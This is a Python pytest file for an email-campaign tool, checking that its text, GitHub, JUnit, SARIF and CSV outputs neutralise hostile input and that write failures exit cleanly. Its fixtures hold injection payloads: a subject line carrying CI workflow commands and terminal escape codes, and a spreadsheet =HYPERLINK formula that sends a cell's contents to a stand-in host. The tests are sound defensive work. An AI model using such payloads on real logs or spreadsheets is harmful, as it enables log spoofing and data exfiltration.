"""Output is inert, never overwrites an input, and fails as one line with exit 2."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from mailcheck.inert import csv_cell, inert
from tests.helpers import write_campaign
from tests.hostile.cli import mailcheck

# A subject that, written raw into a CI log, would issue GitHub workflow commands and recolour
# (or retitle) the terminal.
HOSTILE_SUBJECT = "Скидки\n::error file=x.py::pwned\n::stop-commands::tok\x1b]0;owned\x07\x1b[2J"


def _hostile(tmp_path: Path) -> Path:
    return write_campaign(
        tmp_path, "c", subject=HOSTILE_SUBJECT + " " + "x" * 60, id="c\r\n::warning::id"
    )


def test_text_output_escapes_control_characters(tmp_path: Path) -> None:
    _hostile(tmp_path)
    proc = mailcheck("check", "--offline", "c", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert not [line for line in proc.stdout.splitlines() if line.lstrip().startswith("::")]
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout and "\r" not in proc.stdout
    assert (
        "Скидки\\n::error file=x.py::pwned\\n::stop-commands::tok\\x1b]0;owned\\x07" in proc.stdout
    )
    assert "[c\\r\\n::warning::id, client default]" in proc.stdout


def test_github_output_carries_no_raw_control_character(tmp_path: Path) -> None:
    _hostile(tmp_path)
    proc = mailcheck("check", "--offline", "--format", "github", "c", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    commands = [line for line in proc.stdout.splitlines() if line.startswith("::")]
    assert commands and all(line.startswith(("::error ", "::warning ")) for line in commands)
    assert "\x1b" not in proc.stdout and "\r" not in proc.stdout
    assert "Скидки%0A::error file=x.py::pwned%0A::stop-commands::tok\\x1b]0;owned" in proc.stdout


def test_junit_and_sarif_are_well_formed_with_hostile_text(tmp_path: Path) -> None:
    import xml.etree.ElementTree as ET

    _hostile(tmp_path)
    junit = mailcheck("check", "--offline", "--format", "junit", "c", cwd=tmp_path)
    assert "\x1b" not in junit.stdout
    failure = ET.fromstring(junit.stdout.split("\n", 1)[1]).find(".//failure")
    assert failure is not None and "::error file=x.py::pwned" in (failure.text or "")
    sarif = mailcheck("check", "--offline", "--format", "sarif", "c", cwd=tmp_path)
    assert "\x1b" not in sarif.stdout
    messages = [r["message"]["text"] for r in json.loads(sarif.stdout)["runs"][0]["results"]]
    assert any("Скидки\n::error" in m for m in messages)  # JSON-escaped on the wire, exact here


def test_kpi_csv_neutralises_formulas(tmp_path: Path) -> None:
    write_campaign(tmp_path, "c")
    client = '=HYPERLINK("https://evil.test/?"&A1,"Click")'
    db = f"sqlite:///{tmp_path / 'kpi.db'}"
    launched = mailcheck(
        "launch", "--offline", "c", "--client", client, cwd=tmp_path, env={"MAILCHECK_DB": db}
    )
    assert launched.returncode == 0, launched.stderr
    proc = mailcheck("kpi", "--format", "csv", cwd=tmp_path, env={"MAILCHECK_DB": db})
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert [r["client"] for r in rows] == ["'" + client]
    assert rows[0]["launches"] == "1"  # numbers stay numbers


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cell_prefixes_formula_starts(cell: str) -> None:
    assert csv_cell(cell) == "'" + inert(cell)  # and a tab or CR shown as an escape


def test_launches_lists_names_inert(tmp_path: Path) -> None:
    # a client name from campaign.toml wrote "::error file=a.py::pwned" into the CI log
    write_campaign(tmp_path, "c", client="x\n::error file=a.py::pwned\x1b]0;t\x07")
    env = {"MAILCHECK_DB": f"sqlite:///{tmp_path / 'log.db'}"}
    assert mailcheck("launch", "--offline", "c", cwd=tmp_path, env=env).returncode == 0
    proc = mailcheck("launches", cwd=tmp_path, env=env)
    assert proc.returncode == 0, proc.stderr
    assert not [line for line in proc.stdout.splitlines() if line.lstrip().startswith("::")]
    assert "x\\n::error file=a.py::pwned\\x1b]0;t\\x07" in proc.stdout


def test_csv_cell_leaves_text_and_numbers() -> None:
    assert csv_cell("acme") == "acme"
    assert csv_cell(-1.5) == -1.5
    assert inert("Привет 😀") == "Привет 😀"
    assert inert("a\u202eb\x9bc") == "a\\u202eb\\x9bc"


@pytest.mark.parametrize("target", ["c/email.html", "c/campaign.toml", "c"])
def test_output_onto_an_input_is_refused(tmp_path: Path, target: str) -> None:
    d = write_campaign(tmp_path, "c")
    before = {p.name: p.read_bytes() for p in d.iterdir()}
    proc = mailcheck("check", "--offline", "-o", target, "c", cwd=tmp_path)
    assert proc.returncode == 2
    assert proc.stderr.startswith(f"mailcheck: error: --output {target} is an input of this run")
    assert proc.stderr.endswith("refusing to overwrite it\n")
    assert {p.name: p.read_bytes() for p in d.iterdir()} == before


def test_report_onto_the_campaigns_html_is_refused(tmp_path: Path) -> None:
    d = write_campaign(tmp_path, "c")
    before = (d / "email.html").read_bytes()
    proc = mailcheck("report", "--offline", "-o", "c/email.html", "c", cwd=tmp_path)
    assert proc.returncode == 2, proc.stderr
    assert "is an input of this run" in proc.stderr
    assert (d / "email.html").read_bytes() == before


def test_output_into_a_missing_directory_is_one_line_and_exit_2(tmp_path: Path) -> None:
    write_campaign(tmp_path, "c")
    proc = mailcheck("check", "--offline", "-o", "missing/out.txt", "c", cwd=tmp_path)
    assert proc.returncode == 2
    assert proc.stderr == (
        "mailcheck: error: cannot write missing/out.txt: no such file or directory\n"
    )


def test_a_full_disk_is_one_line_and_exit_2(tmp_path: Path) -> None:
    write_campaign(tmp_path, "c")
    proc = mailcheck("check", "--offline", "-o", "/dev/full", "c", cwd=tmp_path)
    assert proc.returncode == 2
    assert proc.stderr == "mailcheck: error: cannot write /dev/full: no space left on device\n"
    with open("/dev/full", "w") as full:
        proc = subprocess.run(
            [sys.executable, "-m", "mailcheck", "check", "--offline", "c"],
            cwd=tmp_path,
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
        )
    assert proc.returncode == 2
    assert proc.stderr == "mailcheck: error: cannot write the output: no space left on device\n"


def test_a_closed_stdout_is_one_line_and_exit_2(tmp_path: Path) -> None:
    write_campaign(tmp_path, "c")
    proc = subprocess.run(
        [sys.executable, "-m", "mailcheck", "check", "--offline", "c"],
        cwd=tmp_path,
        stderr=subprocess.PIPE,
        text=True,
        timeout=60,
        preexec_fn=lambda: os.close(1),
    )
    assert proc.returncode == 2
    assert proc.stderr == "mailcheck: error: cannot write the output: standard output is closed\n"


def test_a_reader_that_went_away_is_one_line_and_exit_2(tmp_path: Path) -> None:
    write_campaign(tmp_path, "c", subject="x" * 60)
    read, write = os.pipe()
    os.close(read)  # nobody will read: the first write is EPIPE
    proc = subprocess.run(
        [sys.executable, "-m", "mailcheck", "check", "--offline", "c"],
        cwd=tmp_path,
        stdout=write,
        stderr=subprocess.PIPE,
        text=True,
        timeout=60,
    )
    os.close(write)
    assert proc.returncode == 2
    assert proc.stderr == "mailcheck: error: cannot write the output: broken pipe\n"


def test_an_output_whose_rendering_fails_half_way_leaves_the_earlier_file(tmp_path: Path) -> None:
    # A report is written as it renders: a failure half-way must leave neither half a file
    # nor a destroyed earlier report.
    from mailcheck.commands.common import write_output

    target = tmp_path / "report.html"
    target.write_text("the report of yesterday", encoding="utf-8")

    def parts() -> Iterator[str]:
        yield "<html>отчёт"
        raise RuntimeError("the template failed")

    with pytest.raises(RuntimeError, match="the template failed"):
        write_output(parts(), str(target))
    assert target.read_text(encoding="utf-8") == "the report of yesterday"
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]

    write_output(iter(["<html>", "отчёт</html>"]), str(target))
    assert target.read_text(encoding="utf-8") == "<html>отчёт</html>"
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]
